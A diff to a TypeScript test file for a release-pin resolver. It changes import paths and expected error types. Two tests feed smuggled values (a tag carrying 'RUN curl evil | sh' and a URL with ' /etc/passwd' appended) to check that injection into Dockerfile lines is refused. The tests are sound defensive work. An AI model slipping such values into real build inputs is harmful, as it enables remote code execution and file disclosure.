@@ -1,10 +1,10 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import type { RetryPolicy } from '../lib/fetch-with-retry.ts';
-import { resolveLivePins } from '../lib/live-pins.ts';
-import { plainProgress, terminalProgress } from '../lib/lookup-progress.ts';
-import { githubApi, packageVersion, release } from './support/fake-github.ts';
-import { fakeRegistry } from './support/fake-registry.ts';
+import type { RetryPolicy } from './fetch-with-retry.ts';
+import { resolveLivePins } from './live-pins.ts';
+import { plainProgress, terminalProgress } from './lookup-progress.ts';
+import { githubApi, packageVersion, release } from '../../test/support/fake-github.ts';
+import { fakeRegistry } from '../../test/support/fake-registry.ts';
 
 const policy: RetryPolicy = { attempts: 2, timeoutMs: 1000, backoffMs: 10, maxRetryAfterMs: 1000 };
 
@@ -46,7 +46,7 @@ describe('live pins', () => {
   it('refuses a release tag that could break out of a Dockerfile line', async () => {
     const { origin } = await tamperedGithub((original) => ({ ...original, tag_name: 'v1.35\nRUN curl evil | sh' }));
     const { pins } = await resolveWith(origin);
-    await assert.rejects(pins, /^Error: live lookup\.rie\.version: "v1\.35\\nRUN curl evil \| sh" is not allowed; expected a release tag such as v1\.35$/);
+    await assert.rejects(pins, /^InvalidInputError: live lookup\.rie\.version: "v1\.35\\nRUN curl evil \| sh" is not allowed; expected a release tag such as v1\.35$/);
   });
 
   it('refuses an asset URL that could break out of a Dockerfile line', async () => {
@@ -55,7 +55,7 @@ describe('live pins', () => {
       assets: original.assets.map((asset) => ({ ...asset, browser_download_url: `${asset.browser_download_url} /etc/passwd` })),
     }));
     const { pins } = await resolveWith(origin);
-    await assert.rejects(pins, /^Error: live lookup\.rie\.assets\.x86_64\.url: ".* \/etc\/passwd" is not allowed; expected an http\(s\) URL without spaces or quotes$/);
+    await assert.rejects(pins, /^InvalidInputError: live lookup\.rie\.assets\.x86_64\.url: ".* \/etc\/passwd" is not allowed; expected an http\(s\) URL without spaces or quotes$/);
   });
 
   it('draws a spinner line on a terminal, keeps results on lines of their own, and clears it at the end', () => {
